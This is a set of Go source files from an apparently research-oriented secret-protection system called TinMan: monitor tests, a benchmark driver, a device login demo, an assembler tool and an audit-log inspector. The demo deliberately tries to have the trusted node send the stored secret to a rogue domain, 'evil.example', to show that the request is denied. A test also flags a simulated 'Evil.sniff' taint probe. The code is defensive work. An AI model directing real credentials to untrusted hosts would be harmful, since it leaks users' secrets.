	// The warning fires once per episode.
	m.noteTaintedAccess(taint.Bit(0), taint.HeapToStack)
	if len(m.Findings()) != 1 {
		t.Fatal("budget finding repeated")
	}
	if m.Touches() != 5 {
		t.Fatalf("touches = %d", m.Touches())
	}
}

func TestTaintWidth(t *testing.T) {
	m := New(Config{MaxDistinctCors: 2})
	m.BeginEpisode()
	m.noteTaintedAccess(taint.Bit(0).Union(taint.Bit(1)), taint.HeapToStack)
	if m.CriticalRaised() {
		t.Fatal("two lineages should be fine")
	}
	m.noteTaintedAccess(taint.Bit(2).Union(taint.Bit(3)), taint.HeapToHeap)
	if !m.CriticalRaised() {
		t.Fatal("four lineages should be critical")
	}
	fs := m.Findings()
	if fs[0].Rule != "taint-width" || fs[0].Severity != Critical {
		t.Fatalf("findings = %v", fs)
	}
}

func TestEpisodeReset(t *testing.T) {
	m := New(Config{MaxDistinctCors: 1})
	m.BeginEpisode()
	m.noteTaintedAccess(taint.Bit(0).Union(taint.Bit(1)), taint.HeapToStack)
	if !m.CriticalRaised() {
		t.Fatal("setup")
	}
	m.BeginEpisode()
	if m.CriticalRaised() || m.Touches() != 0 {
		t.Fatal("episode state not reset")
	}
	// Findings persist across episodes (they are the audit trail).
	if len(m.Findings()) != 1 {
		t.Fatal("findings lost on reset")
	}
}

func TestDerivedSize(t *testing.T) {
	m := New(Config{MaxDerivedBytes: 100})
	m.NoteDerived("derived-x", 99)
	if m.CriticalRaised() {
		t.Fatal("small derived flagged")
	}
	m.NoteDerived("derived-x", 101)
	if !m.CriticalRaised() {
		t.Fatal("oversized derived not flagged")
	}
}

func TestTaintProbe(t *testing.T) {
	m := New(Config{})
	m.NoteTaintProbe("Evil.sniff")
	fs := m.Findings()
	if len(fs) != 1 || fs[0].Rule != "taint-probe" || !strings.Contains(fs[0].Detail, "Evil.sniff") {
		t.Fatalf("findings = %v", fs)
	}
}

func TestOnFindingCallback(t *testing.T) {
	var got []Finding
	m := New(Config{MaxCorTouches: 1, OnFinding: func(f Finding) { got = append(got, f) }})
	m.BeginEpisode()
	m.noteTaintedAccess(taint.Bit(0), taint.HeapToStack)
	m.noteTaintedAccess(taint.Bit(0), taint.HeapToStack)
	if len(got) != 1 {
		t.Fatalf("callback saw %d findings", len(got))
	}
}

func TestAttachObservesVMAccesses(t *testing.T) {
	src := `
class A
  method reads 2 6
    const r2, 0
    const r3, 0
  loop:
    ifge r3, r1, done
    charat r4, r0, r2
    const r5, 1
    add r3, r3, r5
    goto loop
  done:
    return r3
  end
end`
	prog, err := asm.Assemble("a", src)
	if err != nil {
		t.Fatal(err)
	}
	machine := vm.New(vm.Config{Program: prog, Heap: vm.NewHeap(2, 2), Policy: taint.Full})
	m := New(Config{MaxCorTouches: 5})
	m.Attach(machine)
	m.BeginEpisode()

	secret := machine.NewTaintedString("secret", taint.Bit(0))
	th, _ := machine.NewThread(prog.Method("A", "reads"), vm.RefVal(secret), vm.IntVal(10))
	if _, err := th.Run(); err != nil {
		t.Fatal(err)
	}
	if m.Touches() != 10 {
		t.Fatalf("monitor saw %d touches, want 10", m.Touches())
	}
	found := false
	for _, f := range m.Findings() {
		if f.Rule == "cor-touch-budget" {
			found = true
		}
	}
	if !found {
		t.Fatal("budget finding missing")
	}
}

func TestSeverityAndFindingStrings(t *testing.T) {
	for _, s := range []Severity{Info, Warning, Critical, Severity(9)} {
		if s.String() == "" {
			t.Fatal("empty severity")
		}
	}
	f := Finding{Severity: Critical, Rule: "r", Detail: "d"}
	if !strings.Contains(f.String(), "critical") || !strings.Contains(f.String(), "r") {
		t.Fatalf("finding string = %q", f.String())
	}
}
