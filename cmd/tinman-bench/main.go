// Command tinman-bench regenerates every table and figure of the TinMan
// evaluation (§6) on stdout.
//
// Usage:
//
//	tinman-bench                  # everything
//	tinman-bench -fig 13          # one figure (13, 14, 15, 16, 17)
//	tinman-bench -table 3         # Table 3
//	tinman-bench -short           # shortened battery runs
//	tinman-bench -seed 7 -rounds 9
//	tinman-bench -analyze=on      # Fig 13 / -json with the taint
//	                              # pre-analysis fast path enabled
//	                              # (default off = the paper's fully
//	                              # instrumented interpreter)
//
// Beyond the paper's figures, -throughput measures the trusted-node
// service itself: an in-process node on loopback TCP under parallel
// catalog+reseal device loops, comparing client stacks:
//
//	tinman-bench -throughput                     # all modes, 8 clients, 2s each
//	tinman-bench -throughput -mode pipelined -clients 16 -conns 4 -tduration 5s
//	tinman-bench -throughput -metrics            # + Prometheus text dump after
//	tinman-bench -throughput -nodes 3            # consistent-hash fleet:
//	                                             # per-node p50/p99 plus the
//	                                             # cost of drain + rebalance
//
// -spans augments Fig 14/15 with the observability subsystem's per-phase
// span breakdown (self time per phase of each traced login, plus how much
// of the wall time the span tree attributes). -traceout FILE additionally
// writes the traced Wi-Fi logins as Chrome trace_event JSON
// (chrome://tracing / Perfetto); -spansout FILE writes the raw span records
// as JSON lines.
//
// -json FILE appends a machine-readable Caffeinemark run (per-kernel ns/op
// and allocs/op under every policy, plus the unlinked reference
// interpreter) to FILE — `make bench-json` maintains BENCH_vm.json this
// way. -cpuprofile/-memprofile capture pprof profiles of whatever work the
// invocation performs.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
	"time"

	"tinman/internal/bench"
	"tinman/internal/netsim"
	"tinman/internal/nodeproto"
	"tinman/internal/obs"
)

func main() {
	var (
		fig      = flag.Int("fig", 0, "reproduce only this figure (13/14/15/16/17)")
		table    = flag.Int("table", 0, "reproduce only this table (3)")
		seed     = flag.Int64("seed", 42, "simulation seed")
		rounds   = flag.Int("rounds", 7, "measurement rounds for Caffeinemark")
		short    = flag.Bool("short", false, "shorten the battery experiments")
		ablation = flag.Bool("ablation", false, "also run the design-choice ablations")
		analyze  = flag.String("analyze", "off", "static taint pre-analysis for Fig 13 / -json runs: off (paper's fully instrumented interpreter) or on (uninstrumented fast path for provably taint-free code)")

		throughput = flag.Bool("throughput", false, "measure trusted-node service throughput instead of the paper figures")
		clients    = flag.Int("clients", 8, "throughput: concurrent device loops")
		conns      = flag.Int("conns", 1, "throughput: connection-pool size")
		mode       = flag.String("mode", "", "throughput: one of pipelined, serial, seed (default: compare all)")
		tduration  = flag.Duration("tduration", 2*time.Second, "throughput: measurement duration per mode")
		metrics    = flag.Bool("metrics", false, "throughput: print the node's Prometheus metrics after the run")
		nodes      = flag.Int("nodes", 1, "throughput: trusted-node fleet size (>1 runs the consistent-hash fleet and reports per-node latency plus drain/rebalance cost)")

		spans    = flag.Bool("spans", false, "augment Fig 14/15 with the per-phase span breakdown")
		traceout = flag.String("traceout", "", "write traced Wi-Fi logins as Chrome trace_event JSON to this file")
		spansout = flag.String("spansout", "", "write traced Wi-Fi login span records as JSON lines to this file")

		jsonPath    = flag.String("json", "", "append a machine-readable Caffeinemark run to this file (e.g. BENCH_vm.json) instead of the paper figures")
		storePath   = flag.String("store", "", "append a storage-engine run (WAL append throughput vs the in-memory log, recovery time vs log size) to this file (e.g. BENCH_store.json) instead of the paper figures")
		offloadPath = flag.String("offload", "", "append a warm-vs-cold offload latency run (trigger to first node instruction, per login app) to this file (e.g. BENCH_offload.json) instead of the paper figures")
		label       = flag.String("label", "", "label stored with the -json run (e.g. a commit subject)")
		cpuprofile  = flag.String("cpuprofile", "", "write a CPU profile of the run to this file")
		memprofile  = flag.String("memprofile", "", "write a heap profile at exit to this file")
	)
	flag.Parse()

	all := *fig == 0 && *table == 0
	out := os.Stdout
	fail := func(err error) {
		fmt.Fprintf(os.Stderr, "tinman-bench: %v\n", err)
		os.Exit(1)
	}
	var analyzeOn bool
	switch *analyze {
	case "off":
	case "on":
		analyzeOn = true
	default:
		fail(fmt.Errorf("-analyze must be off or on, got %q", *analyze))
	}

	if *cpuprofile != "" {
		f, err := os.Create(*cpuprofile)
		if err != nil {
			fail(err)
		}
		if err := pprof.StartCPUProfile(f); err != nil {
			fail(err)
		}
		defer func() {
			pprof.StopCPUProfile()
			f.Close()
		}()
	}
	if *memprofile != "" {
		defer func() {
			f, err := os.Create(*memprofile)
			if err != nil {
				fail(err)
			}
			defer f.Close()
			runtime.GC()
			if err := pprof.WriteHeapProfile(f); err != nil {
				fail(err)
			}
		}()
	}

	if *jsonPath != "" {
		run, err := bench.MeasureVMBench(*label, *rounds, analyzeOn)
		if err != nil {
			fail(err)
		}
		bench.PrintVMBenchRun(out, run)
		if err := bench.AppendVMBench(*jsonPath, run); err != nil {
			fail(err)
		}
		fmt.Fprintf(out, "appended to %s\n", *jsonPath)
		return
	}

	if *storePath != "" {
		bench.Separator(out, "Storage engine — WAL group commit vs in-memory log; recovery vs log size")
		run, err := bench.MeasureStoreBench(*label)
		if err != nil {
			fail(err)
		}
		bench.PrintStoreBenchRun(out, run)
		if err := bench.AppendStoreBench(*storePath, run); err != nil {
			fail(err)
		}
		fmt.Fprintf(out, "appended to %s\n", *storePath)
		return
	}

	if *offloadPath != "" {
		bench.Separator(out, "Speculative warm-up — trigger-to-first-node-instruction, cold vs warm")
		rows, err := bench.Offload(netsim.WiFi, *seed)
		if err != nil {
			fail(err)
		}
		bench.PrintOffload(out, rows)
		run := bench.PackOffload(*label, netsim.WiFi, *seed, rows)
		if err := bench.AppendOffload(*offloadPath, run); err != nil {
			fail(err)
		}
		fmt.Fprintf(out, "appended to %s\n", *offloadPath)
		return
	}

	if *throughput {
		if *nodes > 1 {
			if err := runFleetThroughput(*nodes, *clients, *tduration); err != nil {
				fail(err)
			}
			return
		}
		if err := runThroughput(*clients, *conns, *mode, *tduration, *metrics); err != nil {
			fail(err)
		}
		return
	}

	if all || *fig == 13 {
		title := "Figure 13 — Caffeinemark under tainting configurations"
		if analyzeOn {
			title += " (taint pre-analysis on)"
		}
		bench.Separator(out, title)
		rows, err := bench.CaffeinemarkMode(*rounds, analyzeOn)
		if err != nil {
			fail(err)
		}
		bench.PrintFig13(out, rows)
	}

	if all || *fig == 14 {
		bench.Separator(out, "Figure 14 — login latency, Wi-Fi")
		rows, err := bench.LoginLatency(netsim.WiFi, *seed)
		if err != nil {
			fail(err)
		}
		bench.PrintLogin(out, "Figure 14 (paper: 4.0s -> 5.95s avg; DSM 0.8s; SSL/TCP 1.2s)", rows)
		if err := spanExtras(out, netsim.WiFi, *seed, *spans, *traceout, *spansout); err != nil {
			fail(err)
		}
	}

	if all || *fig == 15 {
		bench.Separator(out, "Figure 15 — login latency, 3G")
		rows, err := bench.LoginLatency(netsim.ThreeG, *seed)
		if err != nil {
			fail(err)
		}
		bench.PrintLogin(out, "Figure 15 (paper: 5.4s -> 8.2s avg; DSM 1.2s; other 1.6s)", rows)
		if *spans {
			reps, err := bench.TraceLogins(netsim.ThreeG, *seed)
			if err != nil {
				fail(err)
			}
			bench.PrintSpanBreakdown(out, reps)
		}
	}

	if all || *table == 3 {
		bench.Separator(out, "Table 3 — offload accounting")
		rows, err := bench.Table3(*seed)
		if err != nil {
			fail(err)
		}
		bench.PrintTable3(out, rows)
		fmt.Fprintln(out, "paper:    paypal 10274 (4.7%) 2 syncs 768.5KB/24.3KB; ebay 2835 (2.4%) 4 759.8/16.6;")
		fmt.Fprintln(out, "          github 1672 (2.0%) 3 603.0/4.9; askfm 1791 (1.7%) 4 716.6/18.7")
	}

	if all || *fig == 16 {
		total := 30 * time.Minute
		if *short {
			total = 5 * time.Minute
		}
		bench.Separator(out, fmt.Sprintf("Figure 16 — battery, %v PayPal login stress", total))
		curves, err := bench.LoginStress(total, 10*time.Second, *seed)
		if err != nil {
			fail(err)
		}
		bench.PrintBattery(out, "Figure 16 (paper after 30min: Android 93%, TinMan 91%)", curves)
	}

	if *ablation {
		bench.Separator(out, "Ablations")
		rows, err := bench.Ablations(*seed)
		if err != nil {
			fail(err)
		}
		bench.PrintAblations(out, rows)
	}

	if all || *fig == 17 {
		phase := 10 * time.Minute
		if *short {
			phase = 2 * time.Minute
		}
		bench.Separator(out, fmt.Sprintf("Figure 17 — battery, 3 x %v workloads, tainting only", phase))
		curves, err := bench.TaintingBattery(phase, 10*time.Second, *seed)
		if err != nil {
			fail(err)
		}
		bench.PrintBattery(out, "Figure 17 (paper: curves nearly coincide)", curves)
	}
}

// runThroughput boots an in-process trusted node on loopback TCP and
// drives it with parallel catalog+reseal loops, one line per client mode.
// With dump set the node carries an obs metrics registry and its Prometheus
// text exposition is printed after the runs.
func runThroughput(clients, conns int, mode string, dur time.Duration, dump bool) error {
	srv, addr, state, shutdown, err := nodeproto.NewThroughputServer()
	if err != nil {
		return err
	}
	defer shutdown()
	var m *obs.Metrics
	if dump {
		m = obs.NewMetrics()
		srv.SetObs(nil, m)
	}

	modes := []string{"seed", "serial", "pipelined"}
	if mode != "" {
		modes = []string{mode}
	}
	fmt.Printf("trusted-node throughput: %d clients, %d conn(s), %v per mode, loopback %s\n",
		clients, conns, dur, addr)
	for _, md := range modes {
		res, err := nodeproto.RunThroughput(addr, state, nodeproto.ThroughputOptions{
			Workers:  clients,
			Conns:    conns,
			Mode:     md,
			Duration: dur,
		})
		if err != nil {
			return fmt.Errorf("mode %s: %v", md, err)
		}
		fmt.Printf("  %-10s %v\n", md, res)
	}
	ws := srv.Svc.WarmStats()
	fmt.Printf("  warm-up: %d chunks applied, %d hits / %d misses, avg resume %v\n",
		ws.Chunks, ws.Hits, ws.Misses, time.Duration(ws.AvgResumeNs).Round(time.Microsecond))
	if dump {
		fmt.Println("\nnode metrics (Prometheus text format):")
		if err := m.WritePrometheus(os.Stdout); err != nil {
			return err
		}
	}
	return nil
}

// runFleetThroughput boots an n-member trusted-node fleet on loopback TCP
// (one wire server per member, consistent-hash routed) and drives it with
// the fleet client, reporting per-node latency. Afterwards it prices the
// maintenance operations the fleet exists for: draining one member's
// devices to the survivors and rebalancing them back after uncordon.
func runFleetThroughput(nodes, clients int, dur time.Duration) error {
	f, members, state, shutdown, err := nodeproto.StartFleetThroughput(nodes)
	if err != nil {
		return err
	}
	defer shutdown()

	fmt.Printf("trusted-node fleet throughput: %d nodes, %d clients, %v, loopback\n",
		nodes, clients, dur)
	res, err := nodeproto.RunFleetThroughput(members, state, nodeproto.ThroughputOptions{
		Workers:  clients,
		Duration: dur,
	})
	if err != nil {
		return err
	}
	res.Warm = nodeproto.FleetWarmStats(f)
	fmt.Println("  " + res.String())

	ctx := context.Background()
	drained := f.Members()[0]
	start := time.Now()
	moved, err := f.Drain(ctx, drained)
	if err != nil {
		return fmt.Errorf("drain %s: %v", drained, err)
	}
	drainTook := time.Since(start)
	fmt.Printf("drain %s: %d devices in %v", drained, moved, drainTook.Round(time.Microsecond))
	if moved > 0 {
		fmt.Printf(" (%v/device)", (drainTook / time.Duration(moved)).Round(time.Microsecond))
	}
	fmt.Println()

	if err := f.Uncordon(drained); err != nil {
		return err
	}
	start = time.Now()
	moved, err = f.Rebalance(ctx)
	if err != nil {
		return fmt.Errorf("rebalance: %v", err)
	}
	rebTook := time.Since(start)
	fmt.Printf("uncordon + rebalance: %d devices in %v", moved, rebTook.Round(time.Microsecond))
	if moved > 0 {
		fmt.Printf(" (%v/device)", (rebTook / time.Duration(moved)).Round(time.Microsecond))
	}
	fmt.Println()
	return nil
}

// spanExtras renders the Wi-Fi traced-login artifacts requested on the
// command line: the textual per-phase breakdown and/or exporter files.
func spanExtras(out *os.File, profile netsim.Profile, seed int64, spans bool, traceout, spansout string) error {
	if !spans && traceout == "" && spansout == "" {
		return nil
	}
	reps, err := bench.TraceLogins(profile, seed)
	if err != nil {
		return err
	}
	if spans {
		bench.PrintSpanBreakdown(out, reps)
	}
	var recs []obs.SpanRecord
	for _, rep := range reps {
		recs = append(recs, rep.Records...)
	}
	writeFile := func(path string, write func(*os.File) error) error {
		f, err := os.Create(path)
		if err != nil {
			return err
		}
		if err := write(f); err != nil {
			f.Close()
			return err
		}
		return f.Close()
	}
	if traceout != "" {
		if err := writeFile(traceout, func(f *os.File) error {
			return obs.WriteChromeTrace(f, recs)
		}); err != nil {
			return err
		}
		fmt.Fprintf(out, "wrote Chrome trace (%d records) to %s\n", len(recs), traceout)
	}
	if spansout != "" {
		if err := writeFile(spansout, func(f *os.File) error {
			return obs.WriteJSONLines(f, recs)
		}); err != nil {
			return err
		}
		fmt.Fprintf(out, "wrote span JSON lines (%d records) to %s\n", len(recs), spansout)
	}
	return nil
}
