// Command tinman-device demonstrates the device side of TinMan against a
// live tinman-node over real TCP. It plays a complete login: establish a
// TLS session with a (local, in-process) origin server, send the non-secret
// part of the flow itself, and hand the session state to the trusted node
// so the node reseals the cor-bearing record — the device never holds the
// secret.
//
// Start a node first:
//
//	tinman-node -listen 127.0.0.1:7443 &
//	tinman-device -node 127.0.0.1:7443
package main

import (
	"crypto/rand"
	"crypto/rsa"
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"tinman/internal/nodeproto"
	"tinman/internal/tlssim"
)

func main() {
	var (
		nodeAddr = flag.String("node", "127.0.0.1:7443", "trusted node address")
		deviceID = flag.String("device", "galaxy-nexus-1", "device identity")
	)
	flag.Parse()
	if err := run(*nodeAddr, *deviceID); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-device: %v\n", err)
		os.Exit(1)
	}
}

func run(nodeAddr, deviceID string) error {
	// The reconnecting client survives node restarts and transient network
	// failures: requests carry IDs the node dedups, so retries after an
	// ambiguous failure never double-execute.
	node := nodeproto.DialReconnect(nodeAddr, 5*time.Second, nodeproto.ReconnectConfig{
		ClientID: deviceID,
	})
	defer node.Close()
	if err := node.Ping(); err != nil {
		return fmt.Errorf("pinging node: %v", err)
	}
	fmt.Printf("connected to trusted node at %s\n", nodeAddr)

	// One-time safe-environment setup (§2.3): register the password and
	// bind it to this app.
	const appHash = "demo-app-hash-1"
	corID := fmt.Sprintf("demo-pw-%d", time.Now().UnixNano())
	if err := node.Register(corID, "correct horse battery", "demo password", "demo-bank.example"); err != nil {
		return fmt.Errorf("registering cor: %v", err)
	}
	if err := node.Bind(corID, appHash); err != nil {
		return err
	}
	fmt.Printf("registered cor %q and bound it to app %s\n", corID, appHash)

	// The device fetches the catalog: descriptions and placeholders only.
	catalog, err := node.Catalog()
	if err != nil {
		return err
	}
	var placeholder string
	for _, e := range catalog {
		if e.ID == corID {
			placeholder = e.Placeholder
		}
	}
	fmt.Printf("device catalog shows %d cor(s); placeholder for ours: %q\n", len(catalog), placeholder)

	// An in-process origin server stands in for the bank: a TLS session
	// pair with the device.
	key, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		return err
	}
	device, origin, _, err := tlssim.Handshake(
		tlssim.ClientConfig{MinVersion: tlssim.TLS11},
		tlssim.ServerConfig{Key: key})
	if err != nil {
		return err
	}
	fmt.Printf("TLS session with origin established (%v, %v)\n", device.Version(), device.Suite())

	// Non-secret traffic flows directly from the device.
	rec, err := device.Seal(tlssim.TypeApplicationData, []byte("GET /login HTTP/1.1"))
	if err != nil {
		return err
	}
	if _, _, _, err := origin.Open(rec); err != nil {
		return err
	}
	fmt.Println("device sent the non-secret request itself")

	// The secret send: export session state, probe the placeholder record's
	// length, and ask the node to reseal with the real cor.
	probe, err := tlssim.Resume(device.Export(), nil)
	if err != nil {
		return err
	}
	probeRec, err := probe.Seal(tlssim.TypeMarkedCor, []byte(placeholder))
	if err != nil {
		return err
	}
	sealed, err := node.Reseal(corID, device.Export(), appHash, deviceID, "demo-bank.example", "", len(probeRec))
	if err != nil {
		return fmt.Errorf("reseal: %v", err)
	}
	typ, plaintext, _, err := origin.Open(sealed)
	if err != nil {
		return fmt.Errorf("origin rejected the resealed record: %v", err)
	}
	fmt.Printf("origin accepted the node-sealed record (type %d) and decrypted: %q\n", typ, plaintext)
	if string(plaintext) != "correct horse battery" {
		return fmt.Errorf("origin saw %q, not the real secret", plaintext)
	}
	if strings.Contains(string(plaintext), "TINMAN-PLACEHOLDER") {
		return fmt.Errorf("placeholder leaked to origin")
	}

	// Show that policy bites: a rogue domain is refused.
	if _, err := node.Reseal(corID, device.Export(), appHash, deviceID, "evil.example", "", 0); err == nil {
		return fmt.Errorf("rogue domain was not denied")
	} else {
		fmt.Printf("rogue domain denied as expected: %v\n", err)
	}

	// The audit trail.
	entries, err := node.AuditLog(corID, "")
	if err != nil {
		return err
	}
	fmt.Printf("audit log (%d entries):\n", len(entries))
	for _, e := range entries {
		fmt.Printf("  #%d %s cor=%s domain=%s %s %s\n", e.Seq, e.Time, e.CorID, e.Domain, e.Outcome, e.Detail)
	}
	fmt.Println("demo complete: the secret existed only on the trusted node and at the origin")
	return nil
}
