// Command tinman-asm is the developer tool for the VM's assembly language:
// assemble-and-verify, disassemble (round-trip check), hash (the dex hash
// the trusted node binds policies to) and run.
//
// Usage:
//
//	tinman-asm verify  app.tasm
//	tinman-asm hash    app.tasm
//	tinman-asm dis     app.tasm
//	tinman-asm run     app.tasm Class.method [int args...]
//	tinman-asm run -policy full app.tasm Class.method 42
package main

import (
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"

	"tinman/internal/taint"
	"tinman/internal/vm"
	"tinman/internal/vm/asm"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-asm: %v\n", err)
		os.Exit(1)
	}
}

func usage() error {
	return fmt.Errorf("usage: tinman-asm {verify|hash|dis|run} [flags] file [Class.method args...]")
}

func run(args []string) error {
	if len(args) < 1 {
		return usage()
	}
	cmd, rest := args[0], args[1:]

	fs := flag.NewFlagSet(cmd, flag.ContinueOnError)
	policyName := fs.String("policy", "off", "taint policy for run: off|full|asymmetric")
	stats := fs.Bool("stats", false, "print instruction/propagation statistics after run")
	if err := fs.Parse(rest); err != nil {
		return err
	}
	rest = fs.Args()
	if len(rest) < 1 {
		return usage()
	}
	src, err := os.ReadFile(rest[0])
	if err != nil {
		return err
	}
	prog, err := asm.Assemble(strings.TrimSuffix(rest[0], ".tasm"), string(src))
	if err != nil {
		return err
	}

	switch cmd {
	case "verify":
		fmt.Printf("%s: %d classes, %d instructions, verified OK\n",
			rest[0], len(prog.Classes()), prog.CodeSize())
		return nil
	case "hash":
		fmt.Println(prog.Hash())
		return nil
	case "dis":
		fmt.Print(prog.Disassemble())
		return nil
	case "run":
		if len(rest) < 2 {
			return fmt.Errorf("run needs Class.method")
		}
		return runProgram(prog, rest[1], rest[2:], *policyName, *stats)
	default:
		return usage()
	}
}

func runProgram(prog *vm.Program, target string, argStrs []string, policyName string, stats bool) error {
	dot := strings.LastIndexByte(target, '.')
	if dot <= 0 {
		return fmt.Errorf("target %q is not Class.method", target)
	}
	m := prog.Method(target[:dot], target[dot+1:])
	if m == nil {
		return fmt.Errorf("no method %s", target)
	}
	pol, err := taint.PolicyByName(policyName)
	if err != nil {
		return err
	}
	machine := vm.New(vm.Config{
		Program:      prog,
		Heap:         vm.NewHeap(1, 2),
		Policy:       pol,
		CollectStats: stats,
	})
	args := make([]vm.Value, len(argStrs))
	for i, s := range argStrs {
		if n, err := strconv.ParseInt(s, 0, 64); err == nil {
			args[i] = vm.IntVal(n)
		} else {
			args[i] = vm.RefVal(machine.NewString(s))
		}
	}
	th, err := machine.NewThread(m, args...)
	if err != nil {
		return err
	}
	stop, err := th.Run()
	if err != nil {
		return err
	}
	if stop != vm.StopDone {
		return fmt.Errorf("thread stopped with %v", stop)
	}
	res := th.Result
	switch res.Kind {
	case vm.KindRef:
		if res.Ref == nil {
			fmt.Println("null")
		} else if res.Ref.IsStr {
			fmt.Printf("%q\n", res.Ref.Str)
		} else {
			fmt.Println(res.String())
		}
	default:
		fmt.Println(res.String())
	}
	if stats {
		fmt.Printf("instructions: %d, method calls: %d\n", machine.Instrs, machine.Calls)
		fmt.Printf("taint propagation: %s\n", machine.Counters.String())
	}
	return nil
}
