// Command tinman-audit inspects a persisted trusted-node audit log (the
// JSON-lines file written by tinman-node -audit): filtering, summarizing,
// and anomaly scanning — the "reported to the user" side of §3.4.
//
// Usage:
//
//	tinman-audit audit.jsonl                    # list everything
//	tinman-audit -cor bank-pw audit.jsonl       # one cor's history
//	tinman-audit -device nexus-1 audit.jsonl    # one device's history
//	tinman-audit -denied audit.jsonl            # denials only
//	tinman-audit -summary audit.jsonl           # per-cor/per-device totals
//	tinman-audit -since 2015-04-01T00:00:00Z -until 2015-04-02T00:00:00Z audit.jsonl
//	tinman-audit -json -denied audit.jsonl      # machine-readable output
//
// -since/-until accept RFC 3339 timestamps or bare dates (2015-04-01,
// midnight UTC) and select the window [since, until). -json re-emits the
// matching entries in the persisted JSON-lines format, so output pipes back
// into tinman-audit.
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"
	"time"

	"tinman/internal/audit"
)

func main() {
	var (
		corID    = flag.String("cor", "", "filter by cor ID")
		device   = flag.String("device", "", "filter by device ID")
		denied   = flag.Bool("denied", false, "show denials only")
		summary  = flag.Bool("summary", false, "print per-cor and per-device totals")
		since    = flag.String("since", "", "only entries at or after this time (RFC 3339 or YYYY-MM-DD)")
		until    = flag.String("until", "", "only entries before this time (RFC 3339 or YYYY-MM-DD)")
		jsonMode = flag.Bool("json", false, "emit matching entries as JSON lines (the persisted format)")
	)
	flag.Parse()
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: tinman-audit [flags] audit.jsonl")
		os.Exit(2)
	}

	log := audit.NewLog(nil)
	if err := log.LoadFile(flag.Arg(0)); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-audit: %v\n", err)
		os.Exit(1)
	}

	q := audit.Query{CorID: *corID, DeviceID: *device}
	if *denied {
		d := audit.OutcomeDenied
		q.Outcome = &d
	}
	var err error
	if q.Since, err = parseTime(*since); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-audit: -since: %v\n", err)
		os.Exit(2)
	}
	if q.Until, err = parseTime(*until); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-audit: -until: %v\n", err)
		os.Exit(2)
	}
	entries := log.Find(q)

	if *summary {
		printSummary(entries)
		return
	}
	if *jsonMode {
		for _, e := range entries {
			line, err := e.WireJSON()
			if err != nil {
				fmt.Fprintf(os.Stderr, "tinman-audit: %v\n", err)
				os.Exit(1)
			}
			fmt.Println(string(line))
		}
		return
	}
	for _, e := range entries {
		fmt.Println(e.String())
	}
	fmt.Fprintf(os.Stderr, "%d entries", len(entries))
	if an := log.Anomalies(); len(an) > 0 {
		fmt.Fprintf(os.Stderr, ", %d anomalies:\n", len(an))
		for _, a := range an {
			fmt.Fprintln(os.Stderr, "  "+a.String())
		}
	} else {
		fmt.Fprintln(os.Stderr, ", no anomalies")
	}
}

// parseTime accepts RFC 3339 or a bare date (midnight UTC); "" is the zero
// time (no bound).
func parseTime(s string) (time.Time, error) {
	if s == "" {
		return time.Time{}, nil
	}
	if t, err := time.Parse(time.RFC3339, s); err == nil {
		return t, nil
	}
	if t, err := time.Parse("2006-01-02", s); err == nil {
		return t, nil
	}
	return time.Time{}, fmt.Errorf("cannot parse %q (want RFC 3339 or YYYY-MM-DD)", s)
}

// printSummary aggregates outcomes per cor and per device.
func printSummary(entries []audit.Entry) {
	type tally struct{ allowed, denied int }
	perCor := map[string]*tally{}
	perDev := map[string]*tally{}
	bump := func(m map[string]*tally, k string, e audit.Entry) {
		if k == "" {
			k = "(none)"
		}
		t := m[k]
		if t == nil {
			t = &tally{}
			m[k] = t
		}
		if e.Outcome == audit.OutcomeAllowed {
			t.allowed++
		} else {
			t.denied++
		}
	}
	for _, e := range entries {
		bump(perCor, e.CorID, e)
		bump(perDev, e.DeviceID, e)
	}
	printTally := func(title string, m map[string]*tally) {
		fmt.Printf("%s\n", title)
		keys := make([]string, 0, len(m))
		for k := range m {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			fmt.Printf("  %-32s allowed %5d  denied %5d\n", k, m[k].allowed, m[k].denied)
		}
	}
	printTally("by cor:", perCor)
	printTally("by device:", perDev)
}
