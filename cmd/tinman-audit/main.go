// Command tinman-audit inspects a persisted trusted-node audit log (the
// JSON-lines file written by tinman-node -audit): filtering, summarizing,
// and anomaly scanning — the "reported to the user" side of §3.4.
//
// Usage:
//
//	tinman-audit audit.jsonl                    # list everything
//	tinman-audit -cor bank-pw audit.jsonl       # one cor's history
//	tinman-audit -device nexus-1 audit.jsonl    # one device's history
//	tinman-audit -denied audit.jsonl            # denials only
//	tinman-audit -summary audit.jsonl           # per-cor/per-device totals
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"

	"tinman/internal/audit"
)

func main() {
	var (
		corID   = flag.String("cor", "", "filter by cor ID")
		device  = flag.String("device", "", "filter by device ID")
		denied  = flag.Bool("denied", false, "show denials only")
		summary = flag.Bool("summary", false, "print per-cor and per-device totals")
	)
	flag.Parse()
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: tinman-audit [flags] audit.jsonl")
		os.Exit(2)
	}

	log := audit.NewLog(nil)
	if err := log.LoadFile(flag.Arg(0)); err != nil {
		fmt.Fprintf(os.Stderr, "tinman-audit: %v\n", err)
		os.Exit(1)
	}

	q := audit.Query{CorID: *corID, DeviceID: *device}
	if *denied {
		d := audit.OutcomeDenied
		q.Outcome = &d
	}
	entries := log.Find(q)

	if *summary {
		printSummary(entries)
		return
	}
	for _, e := range entries {
		fmt.Println(e.String())
	}
	fmt.Fprintf(os.Stderr, "%d entries", len(entries))
	if an := log.Anomalies(); len(an) > 0 {
		fmt.Fprintf(os.Stderr, ", %d anomalies:\n", len(an))
		for _, a := range an {
			fmt.Fprintln(os.Stderr, "  "+a.String())
		}
	} else {
		fmt.Fprintln(os.Stderr, ", no anomalies")
	}
}

// printSummary aggregates outcomes per cor and per device.
func printSummary(entries []audit.Entry) {
	type tally struct{ allowed, denied int }
	perCor := map[string]*tally{}
	perDev := map[string]*tally{}
	bump := func(m map[string]*tally, k string, e audit.Entry) {
		if k == "" {
